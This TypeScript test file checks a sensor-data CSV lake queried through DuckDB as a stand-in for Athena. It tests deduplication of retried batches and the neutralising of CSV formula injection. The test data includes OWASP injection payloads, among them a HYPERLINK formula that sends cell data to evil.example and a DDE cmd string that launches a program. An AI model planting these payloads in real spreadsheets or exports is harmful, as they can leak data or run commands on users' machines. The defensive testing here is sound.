import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { toCsv } from '../../lambdas/shared/csv';
import type { Feature } from '../../lambdas/shared/features';
import { type ProcessedReading, READING_COLUMNS } from '../../lambdas/shared/processed-reading';
import { processTransformBatch } from '../../lambdas/transform/process-batch';
import { createCuratedReadings } from '../../local/athena-duckdb';
import {
  ARRIVAL_MS,
  kinesisEvent,
  labBurst,
  labReading,
  sequenceNumber,
  type TestRecord,
} from '../fixtures/kinesis-event';
import { transformHarness } from '../fixtures/transform-harness';
import { athenaInDuckDb, sqlText, toDuckDb } from './athena-in-duckdb';

/** The lab's DDL and view, as the stack expands them. */
const tableDdl = sqlText('processed_readings.sql');
const readingsView = sqlText('readings.sql');

/** The column list of the CREATE EXTERNAL TABLE, with their declared types. */
function declaredColumns(ddl: string): [string, string][] {
  const body = /processed_readings \(([\s\S]*?)\n\)\nPARTITIONED BY/.exec(ddl)?.[1];
  if (!body) throw new Error('no column list found in processed_readings.sql');
  return body
    .split(',\n')
    .map((line) => line.trim().split(/\s+/) as [string, string])
    .map(([name, type]) => [name.replaceAll('`', ''), type]);
}

const DUCKDB_TYPES: Record<string, string> = {
  STRING: 'VARCHAR',
  INT: 'INTEGER',
  DOUBLE: 'DOUBLE',
  BOOLEAN: 'BOOLEAN',
};

describe('the CSV lake in SQL', () => {
  test('the table DDL declares exactly the CSV header, in order', () => {
    expect(declaredColumns(tableDdl).map(([name]) => name)).toEqual([...READING_COLUMNS]);
  });

  test('the readings view counts a reading once when a bisected retry left it in two CSV objects', async () => {
    const harness = transformHarness();
    const records: TestRecord[] = [
      { sequenceNumber: sequenceNumber(1), data: labReading(101, ARRIVAL_MS - 3_000) },
      { sequenceNumber: sequenceNumber(2), data: labReading(102, ARRIVAL_MS - 2_000, { temperature: 95 }) },
      { sequenceNumber: sequenceNumber(3), data: labBurst(103, 5) },
      { sequenceNumber: sequenceNumber(4), data: labReading(101, ARRIVAL_MS - 500) },
    ];
    // The whole batch wrote its object, then the second half was retried on its own and wrote another.
    await processTransformBatch(kinesisEvent(records), harness.deps);
    await processTransformBatch(kinesisEvent(records.slice(2)), harness.deps);
    harness.restore();
    expect(harness.objects.size).toBe(2);

    const lake = mkdtempSync(join(tmpdir(), 'csv-lake-'));
    try {
      // The objects as written: GZIP, which DuckDB (as Athena) unzips by the `.gz` extension.
      for (const [key, body] of harness.bodies) {
        const file = join(lake, key);
        mkdirSync(dirname(file), { recursive: true });
        writeFileSync(file, body as Uint8Array);
      }
      const columns = declaredColumns(tableDdl)
        .map(([name, type]) => `'${name}': '${DUCKDB_TYPES[type]}'`)
        .join(', ');
      const db = await DuckDBInstance.create(':memory:');
      const connection = await db.connect();
      await connection.run(
        `CREATE TABLE processed_readings AS SELECT * FROM read_csv('${lake}/readings/**/*.csv.gz', header = true, hive_partitioning = true, columns = {${columns}})`,
      );
      // No hour curated yet: the view reads the CSV lake alone.
      await createCuratedReadings(connection, lake);
      // ${DATABASE} is DuckDB's main schema (see athena-in-duckdb.ts); nothing else changes.
      await connection.run(toDuckDb(readingsView));
      const count = async (sql: string) => Number((await connection.runAndReadAll(sql)).getRows()[0][0]);

      expect(await count('SELECT count(*) FROM processed_readings')).toBe(8 + 6);
      expect(await count('SELECT count(*) FROM readings')).toBe(8);
      expect(
        await count(
          'SELECT count(*) FROM (SELECT DISTINCT shard_id, sequence_number, reading_index FROM readings)',
        ),
      ).toBe(8);
      expect(await count('SELECT count(*) FROM readings WHERE is_anomaly')).toBe(1);
      connection.closeSync();
    } finally {
      rmSync(lake, { recursive: true, force: true });
    }
  });
});

describe('text a spreadsheet would run, neutralised in the CSV lake, given back as sent by the views', () => {
  /**
   * Formula-like text (OWASP CSV injection), and a leading ' of the producer's own. No line breaks:
   * Athena's OpenCSVSerde reads no quoted line break (DuckDB does), so a test here would show nothing.
   */
  const HOSTILE = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '-2, "b"',
    "'=1+1",
  ];
  const TEXT = [
    'stream',
    'shard_id',
    'partition_key',
    'sequence_number',
    'anomalous_features',
    'reasons',
    'model_version',
  ];
  const NOW = Date.UTC(2026, 10, 23, 19, 50);

  /** A reading whose every text cell is `value`; its temperature is negative, a number all the same. */
  const reading = (value: string, index: number): ProcessedReading => ({
    source: {
      stream: value,
      shardId: value,
      partitionKey: value,
      sequenceNumber: value,
      arrivalMs: NOW - 60_000,
    },
    index,
    reading: {
      equipmentId: 101,
      timestampMs: NOW - 61_000 + index,
      values: { vibration_amplitude: 251.3, vibration_frequency: 1003.2, temperature: -3.5, humidity: 29.8 },
    },
    score: 0.75,
    isAnomaly: true,
    // Feature names come from the reading schema: their column is text too.
    anomalousFeatures: [value] as unknown as Feature[],
    reasons: [value, 'humidity +50% over baseline'],
    modelVersion: value,
  });

  test("every text column of toCsv: stored with a leading ', read back without it by readings, streamdata_view and streamdata_last3_view", async () => {
    const objects = new Map(
      HOSTILE.map((value, i) => [`readings/dt=2026-11-23/hour=19/${i}.csv`, toCsv([reading(value, i)])]),
    );
    const lake = await athenaInDuckDb({ processed: objects, nowMs: NOW });
    try {
      for (const view of ['readings', 'streamdata_view', 'streamdata_last3_view'])
        await lake.runFile(`${view}.sql`);
      const cells = (table: string) =>
        lake.rows(`SELECT ${TEXT.join(', ')}, temperature FROM ${table} ORDER BY reading_index`);
      const row = (prefix: string, value: string) => ({
        ...Object.fromEntries(TEXT.map((column) => [column, `${prefix}${value}`])),
        reasons: `${prefix}${value}; humidity +50% over baseline`,
        temperature: -3.5,
      });
      // What a spreadsheet opens starts no formula; what a query sees is the producer's text.
      expect(await cells('processed_readings')).toEqual(HOSTILE.map((value) => row("'", value)));
      expect(await cells('readings')).toEqual(HOSTILE.map((value) => row('', value)));
      const lab = (view: string) =>
        lake.rows(`SELECT "STREAM", "KEY", "PARTITION", "OFFSET" FROM ${view} ORDER BY "TIMESTAMP"`);
      const sent = HOSTILE.map((value, i) => ({
        STREAM: value,
        KEY: value,
        PARTITION: value,
        OFFSET: `${value}:${i}`,
      }));
      expect(await lab('streamdata_view')).toEqual(sent);
      expect(await lab('streamdata_last3_view')).toEqual(sent);
    } finally {
      lake.close();
    }
  });

  test('partition keys sent to the transform: formula-like ones stored neutralised, every one read back as sent', async () => {
    // [sent, stored]: only a key starting like a formula (or with ') gets a leading '.
    const keys = [
      ...HOSTILE.map((key) => [key, `'${key}`]),
      ['101', '101'],
      ['a, "b"', 'a, "b"'],
      ['equipment -5', 'equipment -5'],
    ];
    const harness = transformHarness();
    const records: TestRecord[] = keys.map(([partitionKey], i) => ({
      sequenceNumber: sequenceNumber(i + 1),
      partitionKey,
      data: labReading(101, ARRIVAL_MS - 3_000 + i),
    }));
    await processTransformBatch(kinesisEvent(records), harness.deps);
    harness.restore();
    const lake = await athenaInDuckDb({ processed: harness.objects, nowMs: ARRIVAL_MS });
    try {
      await lake.runFile('readings.sql');
      await lake.runFile('streamdata_view.sql');
      expect(
        await lake.rows('SELECT partition_key FROM processed_readings ORDER BY sequence_number'),
      ).toEqual(keys.map(([, stored]) => ({ partition_key: stored })));
      expect(await lake.rows('SELECT partition_key FROM readings ORDER BY sequence_number')).toEqual(
        keys.map(([sent]) => ({ partition_key: sent })),
      );
      expect(await lake.rows('SELECT "KEY" FROM streamdata_view ORDER BY "OFFSET"')).toEqual(
        keys.map(([sent]) => ({ KEY: sent })),
      );
    } finally {
      lake.close();
    }
  });
});
